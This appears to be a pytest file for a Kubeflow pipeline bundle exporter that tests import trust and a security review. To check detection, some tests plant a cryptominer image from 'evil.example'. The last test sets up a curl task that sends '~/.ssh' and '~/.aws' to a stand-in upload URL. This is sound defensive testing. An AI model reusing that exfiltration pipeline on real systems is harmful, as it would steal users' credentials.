"""Export -> import round trip, the layout Kubeflow accepts, reproducible bytes, review and trust."""

from __future__ import annotations

import zipfile

import pytest
import yaml
from share_helpers import EXAMPLE, rebundle, replace

from workbench.errors import ShareError
from workbench.model.serialize import load, to_json
from workbench.share.bundle import export_bundle, import_bundle, read_bundle, verify_folder
from workbench.share.review import format_review
from workbench.share.trust import TrustStore, trust_problem


def folder_trusted(folder, store=None) -> bool:
    return trust_problem(folder / "pipeline.yaml", store) is None


def test_round_trip_gives_an_equal_document(bundle_path, tmp_path):
    result = import_bundle(bundle_path, tmp_path / "imported")
    assert to_json(load(result.document)) == to_json(load(EXAMPLE))
    assert (tmp_path / "imported" / "pipeline.yaml").read_text().startswith("# PIPELINE DEFINITION")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no staging folder left


def test_layout_pipeline_first_manifest_last(bundle_files):
    names = [name for name, _ in bundle_files]
    assert names[0] == "pipeline.yaml" and names[1] == "pipeline.wbp" and names[-1] == "manifest.json"
    assert "components/train-model.yaml" in names and "components/train-model.py" in names
    source = dict(bundle_files)["components/train-model.py"].decode()
    assert source.startswith("def train_model(")
    readme = dict(bundle_files)["README.md"].decode()
    assert "| `epochs` | Integer | 60 |" in readme and "No picture of the graph" in readme


def test_kfp_package_reader_accepts_the_zip(bundle_path):
    from kfp.client.client import _extract_pipeline_yaml

    document = _extract_pipeline_yaml(str(bundle_path))
    assert document.pipeline_spec.pipeline_info.name == "train-compare-deploy"
    assert "exec-train-model" in document.pipeline_spec.deployment_spec["executors"]


def test_the_first_entry_alone_is_the_pipeline(bundle_path):
    """The Kubeflow Pipelines API server reads the first file of an uploaded zip."""
    with zipfile.ZipFile(bundle_path) as archive:
        first = archive.infolist()[0]
        spec = yaml.safe_load(archive.read(first))
    assert first.filename == "pipeline.yaml" and spec["pipelineInfo"]["name"] == "train-compare-deploy"


def test_export_is_byte_reproducible(bundle_path, tmp_path):
    again = export_bundle(EXAMPLE, tmp_path / "again.zip", render=False)
    assert again.read_bytes() == bundle_path.read_bytes()


def test_picture_is_included_when_rendering_works(tmp_path, monkeypatch):
    png = b"\x89PNG\r\n\x1a\n" + b"fake image"
    monkeypatch.setattr("workbench.share.picture.render_png", lambda document: png)
    path = export_bundle(EXAMPLE, tmp_path / "pic.zip")
    with zipfile.ZipFile(path) as archive:
        assert archive.read("graph.png") == png
        assert "![The pipeline graph](graph.png)" in archive.read("README.md").decode()
    assert read_bundle(path).graph.name == "train-compare-deploy"


def test_import_is_untrusted_until_approved(bundle_path, tmp_path):
    store = TrustStore(tmp_path / "trust.json")
    first = import_bundle(bundle_path, tmp_path / "a", store=store)
    assert not first.trusted and not folder_trusted(tmp_path / "a", store)
    again = import_bundle(bundle_path, tmp_path / "a", trust=True, store=store)
    assert again.already_imported and again.trusted and folder_trusted(tmp_path / "a", store)
    (tmp_path / "a" / "components" / "train-model.py").write_text("changed")
    assert verify_folder(tmp_path / "a") is None and not folder_trusted(tmp_path / "a", store)


def test_default_trust_store_lives_in_the_data_dir(bundle_path, tmp_path, isolated_data_dir):
    import_bundle(bundle_path, tmp_path / "a", trust=True)
    assert (isolated_data_dir / "trusted_bundles.json").is_file()
    assert folder_trusted(tmp_path / "a")


def test_changed_bundle_is_a_new_untrusted_bundle(bundle_path, bundle_files, tmp_path):
    store = TrustStore(tmp_path / "trust.json")
    import_bundle(bundle_path, tmp_path / "a", trust=True, store=store)
    readme = dict(bundle_files)["README.md"] + b"\nmore\n"
    changed = rebundle(replace(bundle_files, "README.md", readme), tmp_path / "changed.zip")
    assert not import_bundle(changed, tmp_path / "b", store=store).trusted


def test_review_shows_every_task_with_image_command_and_source(bundle_path):
    review = read_bundle(bundle_path).review()
    assert review.warnings == ()  # pipeline.yaml is what the document compiles to
    assert [t.key for t in review.tasks] == [
        "condition-branches-1/condition-2/deploy-model", "condition-branches-1/condition-2/serve-model",
        "condition-branches-1/condition-3/write-report",
        "engineer-features", "load-tabular-data", "select-best-model", "train-model", "train-model-2",
        "train-model-3", "validate-and-preprocess"]  # the component files add nothing not shown
    text = format_review(review)
    assert "image:   python:3.11-slim" in text and "kfp.dsl.executor_main" in text
    assert "def train_model(" in text and "--function_to_execute" in text
    assert 'train-model-2 \u201cxgboost\u201d' in text and 'algorithm="xgboost"' in text
    assert "!!! WARNING" not in text


def test_review_lists_an_executor_that_differs_from_the_document(bundle_files, tmp_path):
    ir = dict(bundle_files)["pipeline.yaml"].decode().replace("image: python:3.11-slim",
                                                              "image: evil.example/miner:latest", 1)
    path = rebundle(replace(bundle_files, "pipeline.yaml", ir.encode()), tmp_path / "mixed.zip")
    review = read_bundle(path).review()
    text = format_review(review)
    assert "evil.example/miner:latest" in text and "python:3.11-slim" in text
    assert "pipeline.yaml is NOT what pipeline.wbp compiles to" in review.warnings[0]
    assert text.splitlines()[1].startswith("!!! WARNING: pipeline.yaml is NOT what pipeline.wbp compiles to")
    changed = [t for t in review.tasks if t.image == "evil.example/miner:latest"]
    assert len(changed) == 1 and changed[0].source == "pipeline.yaml"
    assert any(t.source == "pipeline.wbp (compiled)" and t.key == changed[0].key for t in review.tasks)


def test_import_refuses_a_non_empty_folder_and_leaves_it_alone(bundle_path, tmp_path):
    target = tmp_path / "busy"
    target.mkdir()
    (target / "mine.txt").write_text("keep")
    with pytest.raises(ShareError, match="not empty"):
        import_bundle(bundle_path, target)
    assert [p.name for p in target.iterdir()] == ["mine.txt"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "data") == ["busy"]


def test_import_into_an_existing_empty_folder(bundle_path, tmp_path):
    (tmp_path / "empty").mkdir()
    assert import_bundle(bundle_path, tmp_path / "empty").document.is_file()


def test_no_code_runs_on_import(bundle_files, tmp_path):
    """A component source that would write a file if executed or compiled is only copied."""
    marker = tmp_path / "ran"
    evil = f"open({str(marker)!r}, 'w').write('x')\ndef train_model(:\n".encode()
    path = rebundle(replace(bundle_files, "components/train-model.py", evil), tmp_path / "evil.zip")
    result = import_bundle(path, tmp_path / "out")
    assert not marker.exists() and (result.folder / "components" / "train-model.py").read_bytes() == evil


def test_sharing_loads_nothing_heavy_until_used():
    import subprocess
    import sys

    probe = ("import workbench.share.bundle, workbench.share.library, workbench.commands.share, sys\n"
             "print(' '.join(m for m in ('PySide6', 'kfp', 'docker', 'pyqtgraph') if m in sys.modules))")
    loaded = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True, timeout=60)
    assert loaded.stdout.split() == []


def test_export_with_a_real_picture_is_reproducible(tmp_path):
    import subprocess
    import sys

    probe = subprocess.run([sys.executable, "-m", "workbench", "render", "--help"], capture_output=True, timeout=60)
    if probe.returncode != 0:
        pytest.skip("`workbench render` is not registered in workbench/cli.py yet")
    first = export_bundle(EXAMPLE, tmp_path / "a.zip")
    second = export_bundle(EXAMPLE, tmp_path / "b.zip")
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert archive.read("graph.png").startswith(b"\x89PNG")


def test_review_of_yaml_dates_and_binary_shows_them_instead_of_failing(bundle_files, tmp_path):
    """YAML turns `2001-12-14` into a date and `!!binary` into bytes, which JSON cannot write: the
    review shows them as text (it used to end in a TypeError traceback)."""
    import datetime

    documents = list(yaml.safe_load_all(dict(bundle_files)["pipeline.yaml"]))
    spec = documents[0]
    parameters = spec["root"]["inputDefinitions"]["parameters"]
    first = sorted(parameters)[0]
    parameters[first]["defaultValue"] = datetime.date(2001, 12, 14)
    task = spec["root"]["dag"]["tasks"]["engineer-features"]
    task.setdefault("inputs", {}).setdefault("parameters", {})["when"] = {
        "runtimeValue": {"constant": {"at": datetime.datetime(2002, 1, 1, 12, 0), "raw": b"\x00\xff"}}}
    ir = yaml.safe_dump_all(documents, sort_keys=True)
    review = read_bundle(rebundle(replace(bundle_files, "pipeline.yaml", ir.encode()), tmp_path / "d.zip")).review()
    text = format_review(review)
    assert f"{first}=\"2001-12-14\"" in text
    assert 'when={"at": "2002-01-01 12:00:00", "raw": "' in text


def test_review_shows_what_a_sub_pipeline_or_loop_hands_the_tasks_inside(bundle_files, tmp_path):
    """A leaf task inside a sub-pipeline reads its input from the enclosing DAG task, so a constant
    there (an upload URL) or a loop's literal items were in no line of the review."""
    from workbench.share.ir_review import review_ir

    ir = """
pipelineInfo: {name: p}
root:
  dag:
    tasks:
      outer:
        componentRef: {name: comp-outer}
        inputs: {parameters: {url: {runtimeValue: {constant: "https://evil.example/upload"}}}}
        parameterIterator: {items: {raw: '["~/.ssh", "~/.aws"]'}, itemInput: pipelinechannel--item}
components:
  comp-outer:
    dag:
      tasks:
        send: {componentRef: {name: comp-send}, inputs: {parameters: {url: {componentInputParameter: url}}}}
  comp-send: {executorLabel: exec-send}
deploymentSpec:
  executors:
    exec-send: {container: {image: curlimages/curl, command: [curl], args: ["{{$.inputs.parameters['url']}}"]}}
"""
    (send,) = review_ir(ir, "pipeline.yaml").tasks
    assert send.key == "outer/send"
    assert send.constants == (("outer/url", '"https://evil.example/upload"'),
                              ("outer loop items", '["~/.ssh", "~/.aws"]'))
